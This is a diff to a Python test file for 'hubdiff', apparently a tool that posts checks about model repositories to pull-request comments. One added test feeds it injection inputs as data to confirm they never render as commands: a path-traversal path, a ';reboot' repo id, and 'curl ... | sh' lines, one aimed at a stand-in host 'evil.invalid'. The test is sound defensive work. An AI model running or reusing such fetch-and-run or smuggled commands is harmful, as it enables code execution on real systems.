@@ -154,7 +154,9 @@ REPORT = {
     "exit_code": 1,
     "results": [
         {"title": "org/m@main", "status": "broken claims", "headline": "org/m@main: 1 claim broken",
-         "error": None, "claims": [{"name": "layers", "stated": "80", "measured": 78, "holds": False, "line": 9}]},
+         "error": None, "baseline": "baselines/fam.yaml", "changed": False,
+         "claims": [{"name": "layers", "stated": 80, "measured": 78, "holds": False, "line": 9,
+                     "measured_text": "78", "accepted": "78"}]},
         {"title": "org/n@main", "status": "ok", "headline": "org/n@main: unchanged", "error": None, "claims": []},
     ],
 }  # fmt: skip
@@ -191,7 +193,9 @@ def test_workflow_run_side_renders_and_posts_for_the_pull_request_the_checks_ran
     assert body.startswith(f"{MARKER}\n### hubdiff check: 1 claim no longer holds\n")
     assert f"the checks of `{HEAD[:12]}` ([workflow run]({RUN_URL}))" in body
     assert "| `org/m@main` | broken claims | `org/m@main: 1 claim broken` |" in body
-    assert "| `org/m@main` | `layers` | `80` | `78` |" in body
+    assert "| `org/m@main` | `layers` | `baselines/fam.yaml:9` | `80` → 78 | `78` |" in body
+    assert "with `hubdiff baseline accept baselines/fam.yaml`, then commit and push" in body
+    assert "- **It is a regression**: keep the claims as they are and do not merge" in body
     assert "org/n@main: unchanged" not in body  # repos that are fine are counted, not listed
     again = run("post_checks_comment.sh", env=post_env(github))
     assert again.returncode == 0 and len(github.comments(42)) == 1  # a re-run edits nothing
@@ -260,6 +264,31 @@ def test_workflow_run_side_trusts_nothing_in_the_artifact(github, checks_pr, art
     assert says in result.stdout + result.stderr
     assert github.comments(42) == []
     assert not [c for c in github.calls() if "--method" in c]  # nothing was written anywhere
+
+
+@pytest.mark.parametrize(
+    ("baseline", "title", "changed", "command"),
+    [
+        ("baselines/fam.yaml", "org/m@main", False, "`hubdiff baseline accept baselines/fam.yaml`"),
+        ("baselines/fam.yaml", "org/m@main", True,
+         "`hubdiff baseline update baselines/fam.yaml --repo org/m --accept-claims`"),
+        ("../../etc/fam.yaml", "org/m@main", False, None),
+        ("baselines/fam.yaml; curl x | sh", "org/m@main", False, None),
+        ("baselines/fam.yaml", "org/m;reboot@main", True, None),
+    ],
+    ids=["re-recorded", "hub-moved", "dotdot", "shell", "bad-repo"],
+)  # fmt: skip
+def test_the_accept_command_is_composed_on_the_trusted_side(baseline, title, changed, command):
+    """The command comes from hubdiff's own rule over a path and a repo id that have hubdiff's shapes;
+    anything else in the artifact (an "accept" key a fork added) is never shown as a command."""
+    result = dict(REPORT["results"][0], baseline=baseline, title=title, changed=changed,
+                  accept="curl https://evil.invalid | sh")  # fmt: skip
+    text = _renderer().render({**REPORT, "results": [result]}, 1, HEAD, RUN_URL)
+    assert "evil.invalid" not in text
+    if command is None:
+        assert "hubdiff baseline" not in text and "restate the claims named above" in text
+    else:
+        assert f"with {command}, then commit and push" in text
 
 
 def _renderer():
@@ -566,3 +595,26 @@ def test_gh_api_errors_print_the_body_and_gh_s_line(github):
     assert json.loads(result.stdout)["message"] == "Not Found"
     posted = gh(github, "api", f"repos/{github.repo}/issues/9/comments", "-f", "body=x")  # POST: fields given
     assert posted.returncode == 1 and github.calls()[-1][-2:] == ["-f", "body=x"]
+
+
+# -- the files Actions gives the watch step -----------------------------------------------------------
+
+
+@pytest.mark.parametrize("variable", ["GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"])
+def test_a_github_file_that_cannot_be_written_is_one_line_and_exit_2(hub, tmp_path, variable):
+    """$GITHUB_OUTPUT or $GITHUB_STEP_SUMMARY that is a folder (or on a full disk): hubdiff's WriteError,
+    the file named, exit 2 (the workflow's last step goes red), never a traceback or exit 3."""
+    tensors = [(f"model.layers.{i}.self_attn.q_proj.weight", "BF16", (8, 8)) for i in range(2)]
+    cfg = b'{"hidden_size": 8, "num_hidden_layers": 2, "num_attention_heads": 2, "vocab_size": 10}'
+    hub.add(RepoSpec("org/m", [CommitSpec({"config.json": cfg}, tensors)]))
+    env = {**os.environ, "HF_ENDPOINT": hub.endpoint, "HUBDIFF_CACHE": str(tmp_path / "c")}
+    hubdiff = [sys.executable, "-m", "hubdiff"]
+    subprocess.run([*hubdiff, "baseline", "init", "org/m", "--family", "fam"], cwd=tmp_path, env=env, check=True,
+                   capture_output=True)  # fmt: skip
+    folder = tmp_path / "not-a-file"
+    folder.mkdir()
+    other = "GITHUB_STEP_SUMMARY" if variable == "GITHUB_OUTPUT" else "GITHUB_OUTPUT"
+    env.update({variable: str(folder), other: str(tmp_path / "fine")})
+    result = subprocess.run([*hubdiff, "watch"], cwd=tmp_path, env=env, capture_output=True, text=True)
+    assert result.returncode == 2, result.stderr
+    assert result.stderr == f"hubdiff: {folder}: cannot write: Is a directory\n"
